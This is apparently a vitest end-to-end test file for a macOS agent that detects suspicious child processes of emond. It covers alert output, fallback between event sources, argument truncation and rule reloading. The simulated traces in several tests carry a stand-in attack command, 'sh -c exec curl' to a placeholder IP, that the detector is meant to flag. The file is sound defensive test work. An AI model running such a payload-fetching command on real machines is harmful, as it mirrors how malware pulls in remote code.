import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import { Agent, type AgentStartOptions } from '../../src/agent/agent.js';
import type { AgentConfig } from '../../src/config/keys.js';
import { resolveConfig } from '../../src/config/resolve.js';
import { defaultPaths } from '../../src/config/default-paths.js';
import { AlertStore } from '../../src/storage/alert-store.js';
import { TraceBuilder } from '../helpers/eslogger.js';
import { addon, resetSimulator, sim } from '../native/sim-helpers.js';

const standins = fileURLToPath(new URL('../fixtures/eslogger-standin/', import.meta.url));
const running: Agent[] = [];

afterEach(async () => {
  await Promise.all(running.splice(0).map((agent) => agent.stop('test over')));
  resetSimulator();
  delete process.env.EMONDGUARD_STANDIN_LINES;
});

function workspace(values: Record<string, unknown> = {}): { dir: string; config: AgentConfig } {
  const dir = mkdtempSync(path.join(tmpdir(), 'emondguard-agent-'));
  const { config } = resolveConfig(
    {
      file: {
        origin: 'test',
        values: {
          databasePath: path.join(dir, 'alerts.db'),
          statusPath: path.join(dir, 'status.json'),
          agentLogPath: path.join(dir, 'agent.log'),
          alertsNdjsonPath: path.join(dir, 'alerts.ndjson'),
          mergeIntervalSeconds: 0,
          ...values,
        },
      },
    },
    defaultPaths(),
  );
  return { dir, config };
}

async function start(options: AgentStartOptions): Promise<Agent> {
  const agent = await Agent.start(options);
  running.push(agent);
  return agent;
}

/** launchd → emond → sh -c (exec in place → curl) and a git by zsh that must not alert. */
function emondChainTrace(options: { withEmondBirth?: boolean } = {}): string {
  // Microseconds, as eslogger prints start times.
  const t = new TraceBuilder({ version: 9 }, () => new Date().toISOString().replace('Z', '000Z'));
  const launchd = t.existing(1, '/sbin/launchd', 0);
  const emond = options.withEmondBirth === false ? { ...t.existing(118, '/sbin/emond', 1), pidversion: 118 } : t.spawn(launchd, 118, '/sbin/emond');
  const sh = t.spawn(emond, 2401, '/bin/sh', ['sh', '-c', 'exec curl -fsS http://203.0.113.7/x']);
  t.exec(sh, '/usr/bin/curl', ['curl', '-fsS', 'http://203.0.113.7/x']);
  t.spawn(t.existing(412, '/bin/zsh', 1), 2402, '/usr/bin/git', ['git', 'status']);
  return t.text();
}

function storedAlerts(dbPath: string): Array<{ name: string | null; parent: string | null }> {
  const store = AlertStore.open(dbPath, { readonly: true });
  try {
    return store.list({ order: 'oldest' }).map((a) => ({ name: a.process.name, parent: a.process.parent.name }));
  } finally {
    store.close();
  }
}

function agentEventKinds(dbPath: string): string[] {
  const store = AlertStore.open(dbPath, { readonly: true });
  try {
    return store.agentEvents().map((e) => e.kind);
  } finally {
    store.close();
  }
}

describe('the agent, end to end through the ES simulator', () => {
  it('turns an injected emond chain into an alert row, a unified-log record and an ECS line', async () => {
    const { dir, config } = workspace();
    const trace = path.join(dir, 'trace.ndjson');
    writeFileSync(trace, emondChainTrace());
    const agent = await start({ config, source: 'simulator', simulation: { replay: trace }, addon: addon() });
    expect(await agent.simulationDone).toBe(true);
    expect(await agent.stop()).toBe(true);

    expect(storedAlerts(config.databasePath)).toEqual([
      { name: 'sh', parent: 'emond' },
      { name: 'curl', parent: 'emond' },
    ]);
    const logged = sim().logRecords().filter((r) => r.category === 'alert');
    expect(logged).toHaveLength(2);
    expect(logged[0]?.message).toContain('process.name=sh');
    expect(logged[0]?.message).toContain('process.parent.name=emond');
    expect(logged[0]?.message).toContain('<private>');
    const lines = readFileSync(config.alertsNdjsonPath as string, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    // The agent's own documents share the stream: started first, stopped last, alerts between.
    expect(lines[0]?.event.action).toBe('agent-started');
    expect(lines.at(-1)?.event.action).toBe('agent-stopped');
    const ecs = lines.filter((d) => d.event.dataset !== 'emondguard.agent');
    expect(ecs.map((d) => [d.event.kind, d.rule.id, d.process.name])).toEqual([
      ['alert', '3e3d15c6-1509-479a-b125-21718372157e', 'sh'],
      ['alert', '3e3d15c6-1509-479a-b125-21718372157e', 'curl'],
    ]);
    expect(agentEventKinds(config.databasePath)).toEqual(expect.arrayContaining(['start', 'stop']));
    // The parent named by the ES thread still carries its identity from the process tree, as it
    // does through eslogger: the same entity id emond's own exec had.
    const emondExec = readFileSync(trace, 'utf8').split('\n').map((l) => (l ? JSON.parse(l) : undefined)).find((m) => m?.event?.exec?.target?.executable?.path === '/sbin/emond');
    const emondToken = emondExec.event.exec.target.audit_token;
    expect(ecs[0].process.parent.entity_id).toBe(`118:${emondToken.pidversion}:${emondExec.event.exec.target.start_time}`);
  });

  it('knows an emond that started before the agent, from the start-up process snapshot', async () => {
    const { dir, config } = workspace();
    const trace = path.join(dir, 'trace.ndjson');
    // The trace never shows emond being born; only the simulated machine's process table knows it.
    writeFileSync(trace, emondChainTrace({ withEmondBirth: false }));
    const agent = await start({ config, source: 'simulator', simulation: { replay: trace }, addon: addon() });
    await agent.simulationDone;
    expect(agent.pipeline.tree.counters.seeded).toBeGreaterThan(0);
    await agent.stop();
    expect(storedAlerts(config.databasePath).map((a) => a.parent)).toEqual(['emond', 'emond']);
  });

  it('writes a status file with the source, the counts and the resources', async () => {
    const { config } = workspace({ statusIntervalSeconds: 1 });
    const agent = await start({ config, source: 'simulator', simulation: { load: { execPerSecond: 500, emondChainEverySeconds: 0.2 } }, addon: addon() });
    // The file is rewritten every second; wait for one written after some events and an alert.
    const current = () => (existsSync(config.statusPath) ? JSON.parse(readFileSync(config.statusPath, 'utf8')) : undefined);
    await until(() => current()?.events.total > 100 && current()?.alerts.total > 0);
    const status = current();
    expect(status).toMatchObject({ state: 'running', pid: process.pid, source: { kind: 'simulator', mode: 'full' }, drops: { kernel: 0, queue: 0 } });
    expect(status.events.total).toBeGreaterThan(100);
    expect(status.alerts.total).toBeGreaterThan(0);
    expect(status.resources.rssBytes).toBeGreaterThan(0);
    expect(status.database.path).toBe(config.databasePath);
    await agent.stop();
    const stopped = JSON.parse(readFileSync(config.statusPath, 'utf8'));
    expect(stopped.state).toBe('stopped');
    expect(stopped.alerts.total).toBe(storedAlerts(config.databasePath).length);
  });
});

describe('source selection', () => {
  const onAMac = { platform: 'darwin' as const, macosMajor: 14 };

  it('falls back to eslogger when the binary is not entitled, says what is lost, and detects through it', async () => {
    const { dir, config } = workspace({ esloggerPath: path.join(standins, 'prints-lines') });
    const trace = path.join(dir, 'trace.ndjson');
    writeFileSync(trace, emondChainTrace());
    process.env.EMONDGUARD_STANDIN_LINES = trace;
    sim().setNewClientResult(3); // ES_NEW_CLIENT_RESULT_ERR_NOT_ENTITLED
    const agent = await start({ config, source: 'auto', addon: addon(), environment: onAMac });
    expect(agent.source.describe().kind).toBe('eslogger');
    await until(() => agent.metrics.events >= 7);
    await agent.stop();
    expect(storedAlerts(config.databasePath).map((a) => a.name)).toEqual(['sh', 'curl']);
    const log = readFileSync(config.agentLogPath as string, 'utf8');
    expect(log).toContain('falling back to eslogger: this binary is not entitled to Endpoint Security');
    expect(log).toContain('not API');
  });

  it('falls back to eslogger when the addon is not built', async () => {
    const { config } = workspace({ esloggerPath: path.join(standins, 'prints-lines') });
    const agent = await start({ config, source: 'auto', addon: null, environment: onAMac });
    expect(agent.source.describe().kind).toBe('eslogger');
    expect(readFileSync(config.agentLogPath as string, 'utf8')).toContain('the Endpoint Security addon is not available');
  });

  it.each([
    [4, 'E_ES_NOT_PERMITTED', 'Full Disk Access'],
    [5, 'E_ES_NOT_PRIVILEGED', 'root'],
  ])('stops on es_new_client result %i (%s) instead of falling back', async (result, code, fix) => {
    const { config } = workspace({ esloggerPath: path.join(standins, 'prints-lines') });
    sim().setNewClientResult(result);
    const error = await Agent.start({ config, source: 'auto', addon: addon(), environment: onAMac }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code });
    expect((error as Error).message).toContain(fix);
  });

  it('reports eslogger refused by TCC after falling back', async () => {
    const { config } = workspace({ esloggerPath: path.join(standins, 'no-full-disk-access') });
    sim().setNewClientResult(3);
    const error = await Agent.start({ config, source: 'auto', addon: addon(), environment: onAMac }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'E_ESLOGGER_NO_FDA' });
  });

  it('keeps running when eslogger dies, restarting it', async () => {
    const { dir, config } = workspace({ esloggerPath: path.join(standins, 'dies') });
    const trace = path.join(dir, 'trace.ndjson');
    writeFileSync(trace, emondChainTrace());
    process.env.EMONDGUARD_STANDIN_LINES = trace;
    const agent = await start({ config, source: 'eslogger', addon: null });
    await until(() => readFileSync(config.agentLogPath as string, 'utf8').includes('restarting eslogger'));
    // Every run of eslogger printed the trace again: detection went on across the restarts.
    await until(() => agent.metrics.events >= 14);
    await agent.stop();
    expect(storedAlerts(config.databasePath).length).toBeGreaterThanOrEqual(2);
  });

  it('refuses an emond-only mode that would watch no existing binary, and watches the ones listed', async () => {
    const blind = workspace({ esMode: 'emond-only' });
    const error = await Agent.start({ config: blind.config, source: 'endpoint-security', addon: addon(), environment: onAMac }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'E_AGENT_EMOND_ONLY_BLIND' });
    expect((error as Error).message).toContain('emond was removed in macOS 13');

    const { dir } = blind;
    const copy = path.join(dir, 'emond');
    writeFileSync(copy, '');
    const { config } = workspace({ esMode: 'emond-only', emondPaths: [copy, path.join(dir, 'gone')] });
    const agent = await start({ config, source: 'endpoint-security', addon: addon(), environment: onAMac });
    expect(sim().clients()[0]).toMatchObject({ pathMutingInverted: true });
    // Both are selected: a binary that appears later at a listed path is watched from then on.
    expect(sim().clients()[0]?.mutedPaths.map((m) => m.path)).toEqual([copy, path.join(dir, 'gone')]);
    await agent.stop();
    expect(readFileSync(config.agentLogPath as string, 'utf8')).toContain(`${path.join(dir, 'gone')} does not exist`);
  });

  it('needs macOS 13 for the eslogger fallback', async () => {
    const { config } = workspace();
    sim().setNewClientResult(3);
    const error = await Agent.start({ config, source: 'auto', addon: addon(), environment: { platform: 'darwin', macosMajor: 12 } }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'E_AGENT_NO_SOURCE' });
    expect((error as Error).message).toContain('macOS 13');
  });

  it('explains, off macOS, where to go instead — before creating anything', async () => {
    const { config } = workspace();
    const error = await Agent.start({ config, source: 'auto', addon: addon(), environment: { platform: 'linux' } }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'E_AGENT_NOT_MACOS' });
    expect((error as Error).message).toContain('emondguard scan');
    expect((error as Error).message).toContain('emondguard demo');
    expect(() => readFileSync(config.databasePath)).toThrow(/ENOENT/);
  });

  it('reads a recorded file once, to the end, and finishes', async () => {
    const { dir, config } = workspace();
    const trace = path.join(dir, 'trace.ndjson');
    writeFileSync(trace, emondChainTrace());
    const agent = await start({ config, source: `file:${trace}`, addon: null });
    await agent.finished;
    expect(storedAlerts(config.databasePath).map((a) => a.name)).toEqual(['sh', 'curl']);
  });
});

describe('argv caps from the configuration', () => {
  it('apply to a recorded file and to eslogger lines as they do to the native source (maxArgs, maxArgBytes)', async () => {
    const { dir, config } = workspace({ maxArgs: 3, maxArgBytes: 4096 });
    const t = new TraceBuilder({ version: 9 }, () => new Date().toISOString().replace('Z', '000Z'));
    const emond = t.spawn(t.existing(1, '/sbin/launchd', 0), 118, '/sbin/emond');
    t.spawn(emond, 2401, '/bin/sh', ['sh', '-c', 'curl -fsS http://203.0.113.7/x', 'one', 'two']);
    t.spawn(emond, 2402, '/bin/sh', ['sh', '-c', 'x'.repeat(10_000)]);
    const trace = path.join(dir, 'trace.ndjson');
    writeFileSync(trace, t.text());
    const agent = await start({ config, source: `file:${trace}`, addon: null });
    await agent.finished;
    // The NDJSON file carries the whole alert documents, as the SIEM gets them.
    const alerts = readFileSync(config.alertsNdjsonPath ?? path.join(dir, 'alerts.ndjson'), 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { event: { kind: string }; process: { args: string[]; args_count: number; Ext?: unknown } })
      .filter((document) => document.event.kind === 'alert');
    const [few, big] = alerts.map((a) => a.process);
    // The defaults (1,024 arguments, 256 KiB) would have kept every argument of both.
    expect(few?.args).toEqual(['sh', '-c', 'curl -fsS http://203.0.113.7/x']);
    expect(few?.args_count).toBe(5);
    expect(few?.Ext).toEqual({ args_truncated: true });
    expect(big?.args).toEqual(['sh', '-c']);
    expect(big?.Ext).toEqual({ args_truncated: true });
  });
});

describe('reloading', () => {
  it('swaps in new rules without losing the process tree, and keeps the old rules when the new ones are broken', async () => {
    const { dir, config } = workspace();
    const agent = await start({ config, source: 'simulator', addon: addon() });
    const rules = path.join(dir, 'rules');
    const gitRule = path.join(dir, 'git.toml');
    writeFileSync(gitRule, ruleToml('git by zsh', 'process where process.name == "git"'));
    const outcome = agent.reload({ ...config, rulePaths: [gitRule], logLevel: 'debug', batchSize: 16 });
    expect(outcome.ruleProblems).toEqual([]);
    expect(outcome.applied).toEqual(['rulePaths', 'logLevel']);
    expect(outcome.needsRestart).toEqual(['batchSize']);
    expect(agent.pipeline.rules.map((r) => r.name).sort()).toEqual(['Suspicious Emond Child Process', 'git by zsh']);

    writeFileSync(gitRule, ruleToml('broken', 'process where process.name === "git"'));
    const bad = agent.reload({ ...config, rulePaths: [gitRule, path.join(rules, 'missing')] });
    expect(bad.ruleProblems.length).toBeGreaterThan(0);
    expect(agent.pipeline.rules.map((r) => r.name).sort()).toEqual(['Suspicious Emond Child Process', 'git by zsh']);
  });
});

describe('reloading a rule that replaces a built-in one', () => {
  it('logs which rule won, as the start does', async () => {
    const { config } = workspace();
    const agent = await start({ config, source: 'simulator', addon: addon() });
    const override = fileURLToPath(new URL('../fixtures/rules/override/emond_child_override.toml', import.meta.url));
    expect(agent.reload({ ...config, rulePaths: [override] }).ruleProblems).toEqual([]);
    expect(agent.pipeline.rules.map((rule) => rule.source)).toEqual([override]);
    await agent.stop('test over');
    expect(readFileSync(config.agentLogPath as string, 'utf8')).toMatch(/rule replaced: user rule .*emond_child_override\.toml \(version 200\)/);
  });
});

function ruleToml(name: string, query: string): string {
  return [
    '[rule]',
    `rule_id = "00000000-0000-4000-8000-${String(name.length).padStart(12, '0')}"`,
    `name = "${name}"`,
    'description = "test rule"',
    'severity = "low"',
    'risk_score = 21',
    'type = "eql"',
    'language = "eql"',
    `query = '''${query}'''`,
    '',
  ].join('\n');
}

async function until(condition: () => boolean, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error('condition not met in time');
    await new Promise((r) => setTimeout(r, 20));
  }
}
